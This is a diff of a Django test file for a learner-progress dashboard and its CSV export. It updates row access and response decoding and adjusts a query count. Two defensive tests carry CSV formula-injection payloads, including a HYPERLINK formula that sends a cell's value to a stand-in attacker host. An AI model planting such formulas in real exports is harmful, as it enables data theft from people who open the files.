@@ -200,7 +200,7 @@ def test_matrix_percentages_match_hand_computed_values(cohort, ana, carla, cours
     mark(carla, [TOPIC.slug], Status.IN_PROGRESS)
     matrix = cohort_matrix(cohort)
     first_index = [s.slug for s in matrix.sections].index(FIRST_SECTION.slug)
-    rows = {row.user.email: row for row in matrix.rows}
+    rows = {row.email: row for row in matrix.rows}
     assert rows["ana@example.com"].cells[first_index].percent == 67
     assert rows["carla@example.com"].cells[first_index].percent == 50
     assert matrix.section_averages[first_index] == round((67 + 50) / 2)
@@ -234,7 +234,7 @@ def test_inactive_learners_are_flagged(cohort, ana, carla):
     mark(ana, [TOPIC.slug])
     ana.progress_events.update(created_at=timezone.now() - datetime.timedelta(days=8))
     mark(carla, [TOPIC.slug])
-    rows = {row.user.email: row for row in cohort_matrix(cohort).rows}
+    rows = {row.email: row for row in cohort_matrix(cohort).rows}
     assert rows["ana@example.com"].inactive is True
     assert rows["carla@example.com"].inactive is False
 
@@ -265,7 +265,7 @@ def test_csv_export(client, cohort, bruno, ana, course):
     client.force_login(bruno)
     response = client.get(f"/cohortes/{cohort.slug}/exportar.csv")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    text = response.content.decode("utf-8")
+    text = response.getvalue().decode("utf-8")
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
     header, ana_row = rows
@@ -345,7 +345,7 @@ def test_dashboard_and_csv_query_counts_do_not_grow(
     client.force_login(bruno)
     url = f"/cohortes/{cohort.slug}/{path}"
     client.get(url)
-    with django_assert_num_queries(8) as small:
+    with django_assert_num_queries(7) as small:
         client.get(url)
     _add_learners(cohort, 57, start=2)  # 60
     with django_assert_num_queries(len(small.captured_queries)):
@@ -387,7 +387,7 @@ def test_csv_neutralises_spreadsheet_formulas(client, cohort, bruno, ana):
     ana.display_name = '=HYPERLINK("https://malo.example/?"&B2,"clic")'
     ana.save()
     client.force_login(bruno)
-    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").content.decode("utf-8-sig")
+    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").getvalue().decode("utf-8-sig")
     row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
     assert row[0] == "'" + ana.display_name
 
@@ -406,7 +406,7 @@ def test_csv_header_neutralises_a_formula_in_a_section_title(client, cohort, bru
     first_section.title = '=HYPERLINK("https://malo.example/","Matemáticas")'
     first_section.save()
     client.force_login(bruno)
-    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").content.decode("utf-8-sig")
+    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").getvalue().decode("utf-8-sig")
     header = next(csv.reader(io.StringIO(text), delimiter=";"))
     assert "'" + first_section.title + " (%)" in header
     assert not any(cell.startswith("=") for cell in header)
